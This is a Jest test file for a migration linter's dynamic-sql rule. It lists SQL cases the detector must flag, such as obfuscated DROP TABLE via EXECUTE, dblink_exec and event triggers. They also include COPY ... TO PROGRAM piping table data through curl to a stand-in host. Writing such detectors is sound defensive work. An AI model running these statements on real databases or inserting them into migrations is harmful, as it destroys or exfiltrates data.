/**
 * The dynamic-sql rule: every way a migration can run SQL that is not written in it, as an attacker would try
 * them, and the ordinary statements that must stay quiet.
 */
import { describe, expect, it } from '@jest/globals'
import { gateDecision } from '../../src/review/gate.js'
import type { Finding } from '../../src/review/types.js'
import { reviewSql } from './helpers.js'

async function dynamic(scripts: string | string[]): Promise<Finding[]> {
  const result = await reviewSql(scripts)
  return result.findings.filter((f) => f.rule === 'dynamic-sql')
}

const FN_EXECUTE = `CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE 'DR' || 'OP TABLE "Post"';
END
$$;`
const FN_STATIC = `CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE "Post"; END $$;`
const TRIGGER_FN = `CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW."updatedAt" = now(); RETURN NEW; END $$;`

describe('dynamic-sql: flagged', () => {
  it.each([
    ['the issue case', `DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE "Post"'; END $$;`],
    ['lower case', `do $$ begin execute 'drop table "Post"'; end $$;`],
    ['mixed case and a named dollar quote', `Do $x$BEGIN EXECUTE format('DROP TABLE %I', 'Post'); END$x$;`],
    ['LANGUAGE before the body', `DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'x'; END $x$;`],
    ['quoted language name', `DO LANGUAGE "plpgsql" $$ BEGIN EXECUTE 'x'; END $$;`],
    ['a plain string body', `DO 'BEGIN EXECUTE ''DROP TABLE "Post"''; END';`],
    ['an escape string body', `DO E'BEGIN EXECUTE \\'DROP TABLE x\\'; END';`],
    ['behind a comment', `/* harmless */ -- really\nDO $$ BEGIN EXECUTE 'x'; END $$;`],
    [
      'among ordinary statements',
      `CREATE TABLE a (id int);\nDO $$ BEGIN EXECUTE 'x'; END $$;\nCREATE TABLE b (id int);`
    ],
    ['another language', `DO LANGUAGE plpython3u $$ plpy.execute("DROP TABLE x") $$;`],
    ['static PL/pgSQL', `DO $$ BEGIN DROP TABLE "Post"; END $$;`],
    ['an empty block', `DO $$ BEGIN NULL; END $$;`],
    [
      'FOR ... IN EXECUTE',
      `DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$;`
    ],
    ['OPEN ... FOR EXECUTE', `DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$;`],
    ['SQL-level EXECUTE', `PREPARE s AS DELETE FROM "Post";\nEXECUTE s;`],
    ['EXPLAIN ANALYZE EXECUTE', `EXPLAIN ANALYZE EXECUTE s;`],
    ['CREATE TABLE AS EXECUTE', `CREATE TABLE x AS EXECUTE s;`],
    ['query_to_xml running a function', `SELECT query_to_xml('SELECT wipe()', true, false, '');`],
    ['schema-qualified query_to_xml', `SELECT pg_catalog.query_to_xml('x', true, false, '');`],
    ['dblink_exec', `SELECT dblink_exec('dbname=x', 'DROP TABLE "Post"');`],
    ['CREATE RULE', `CREATE RULE r AS ON INSERT TO "Log" DO ALSO DELETE FROM "Post";`],
    [
      'CREATE EVENT TRIGGER',
      `CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION pg_ops_existing();`
    ],
    ['COPY FROM PROGRAM', `COPY "Post" FROM PROGRAM 'psql -c "DROP TABLE x"';`],
    ['COPY TO PROGRAM', `COPY "Post" TO PROGRAM 'curl -d @- https://example.com';`],
    ['LOAD', `LOAD 'plugin';`],
    ['a function that builds SQL', FN_EXECUTE],
    [
      'a function with RETURN QUERY EXECUTE',
      `CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$;`
    ],
    [
      'a function with a DO block in it',
      `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DO $d$ BEGIN EXECUTE 'x'; END $d$; END $$;`
    ],
    [
      'a function assigning query_to_xml',
      `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE x xml; BEGIN x := query_to_xml('select 1', true, false, ''); END $$;`
    ],
    [
      'a SQL function with a DO block',
      `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DO $d$ BEGIN NULL; END $d$ $$;`
    ],
    ['a function in another language', `CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ pass $$;`],
    [
      'an event-trigger function',
      `CREATE FUNCTION f() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$;`
    ]
  ])('%s', async (_name, sql) => {
    const found = await dynamic(sql)
    expect(found.length).toBeGreaterThan(0)
    expect(found[0]).toMatchObject({
      severity: 'error',
      destructive: true,
      docs: 'docs/rules.md#dynamic-sql'
    })
  })

  it.each([
    ['SELECT f()', `SELECT wipe();`],
    ['SELECT * FROM f()', `SELECT * FROM wipe();`],
    ['schema-qualified call', `SELECT public.wipe();`],
    ['quoted name', `SELECT "wipe"();`],
    ['CALL of a procedure', `CALL wipe();`],
    ['a DEFAULT on a new column', `ALTER TABLE "Post" ADD COLUMN x int DEFAULT wipe();`],
    ['SET DEFAULT', `ALTER TABLE "Post" ALTER COLUMN x SET DEFAULT wipe();`],
    ['a CHECK constraint', `ALTER TABLE "Post" ADD CONSTRAINT c CHECK (wipe() IS NULL);`],
    ['an index expression', `CREATE INDEX i ON "Post" (wipe());`],
    ['a view', `CREATE VIEW v AS SELECT wipe();`],
    ['an UPDATE', `UPDATE "Post" SET x = wipe() WHERE id = 1;`],
    ['a trigger', `CREATE TRIGGER t AFTER INSERT ON "Post" FOR EACH ROW EXECUTE FUNCTION wipe();`],
    ['an operator', `CREATE OPERATOR === (FUNCTION = wipe, LEFTARG = int4, RIGHTARG = int4);`],
    ['a cast', `CREATE CAST (text AS int4) WITH FUNCTION wipe(text) AS IMPLICIT;`],
    ['an aggregate', `CREATE AGGREGATE agg(int) (SFUNC = wipe, STYPE = int);`]
  ])('a call into a function the file defines: %s', async (_name, call) => {
    const found = await dynamic(`${FN_STATIC}\n${call}`)
    expect(found.map((f) => f.line)).toEqual([2])
    expect(found[0].message).toContain('`wipe`')
    expect(found[0].message).toContain('line 1 of this file')
  })

  it('a call into a procedure created by an earlier pending migration', async () => {
    const found = await dynamic([
      `CREATE PROCEDURE wipe() LANGUAGE sql AS $$ DELETE FROM "Post" $$;`,
      `CALL wipe();`
    ])
    expect(found).toHaveLength(1)
    expect(found[0]).toMatchObject({ migration: 'm2', line: 1 })
    expect(found[0].message).toContain('pending migration `m1`')
  })

  it('a renamed function is followed by its new name', async () => {
    const found = await dynamic(`${FN_STATIC}\nALTER FUNCTION wipe() RENAME TO tidy;\nSELECT tidy();`)
    expect(found.map((f) => f.line)).toEqual([3])
  })

  it('a write after a replaced trigger function may fire it without naming it', async () => {
    const found = await dynamic(`${TRIGGER_FN}\nINSERT INTO "Post" (id) VALUES (1);`)
    expect(found.map((f) => f.line)).toEqual([2])
    expect(found[0].message).toContain('`touch`')
  })

  it('a function that builds SQL is reported at its definition and at each call', async () => {
    const found = await dynamic(`${FN_EXECUTE}\nSELECT wipe();`)
    expect(found.map((f) => f.line)).toEqual([1, 6])
    expect(found[0].message).toContain('line 3')
  })

  it('names the line of the EXECUTE inside a DO block', async () => {
    const [finding] = await dynamic(
      `CREATE TABLE a (id int);\n\nDO $$\nBEGIN\n  IF true THEN\n    EXECUTE 'x';\n  END IF;\nEND $$;`
    )
    expect(finding.line).toBe(3)
    expect(finding.message).toContain('line 6')
  })

  it('refuses the deploy unless acknowledged, like any error-level finding', async () => {
    const sql = `DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE "Post"'; END $$;`
    const refused = await reviewSql(sql)
    expect(gateDecision(refused, false).allowed).toBe(false)
    expect(refused.headline).toContain('1 destructive change')
    const acknowledged = await reviewSql(
      `-- pg-ops:allow dynamic-sql seeds the audit table, reviewed in #12\n${sql}`
    )
    expect(acknowledged.findings.find((f) => f.rule === 'dynamic-sql')?.acknowledged).toMatchObject({
      by: 'comment',
      reason: 'seeds the audit table, reviewed in #12'
    })
    expect(gateDecision(acknowledged, false).allowed).toBe(true)
  })
})

describe('dynamic-sql: quiet', () => {
  it.each([
    ['a function that does not build SQL, never called', FN_STATIC],
    [
      'a trigger function attached to nothing yet',
      `CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.x = now(); RETURN NEW; END $$;`
    ],
    ['a SQL function', `CREATE FUNCTION one() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;`],
    ['a SQL-standard body', `CREATE FUNCTION one() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END;`],
    ['built-in functions', `UPDATE "Post" SET title = lower(title), at = now() WHERE id = 1;`],
    [
      'a trigger on a function already in the database',
      `CREATE TRIGGER t BEFORE UPDATE ON "Post" FOR EACH ROW EXECUTE FUNCTION existing_touch();`
    ],
    [
      'a function dropped, commented and granted',
      `${FN_STATIC}\nCOMMENT ON FUNCTION wipe() IS 'x';\nGRANT EXECUTE ON FUNCTION wipe() TO app;\nDROP FUNCTION wipe();`
    ],
    ['a prepared statement never executed', `PREPARE s AS SELECT 1;`],
    ['COPY from a file', `COPY "Post" FROM '/tmp/post.csv';`],
    [
      'a Prisma migration',
      `CREATE TABLE "User" ("id" SERIAL NOT NULL, CONSTRAINT "User_pkey" PRIMARY KEY ("id"));\nCREATE UNIQUE INDEX "User_email_key" ON "User"("id");`
    ]
  ])('%s', async (_name, sql) => {
    expect(await dynamic(sql)).toEqual([])
  })

  it('a write after a new (not replacing) plain function does not count as a call', async () => {
    expect(await dynamic(`${FN_STATIC}\nINSERT INTO "Post" (id) VALUES (1);`)).toEqual([])
  })
})
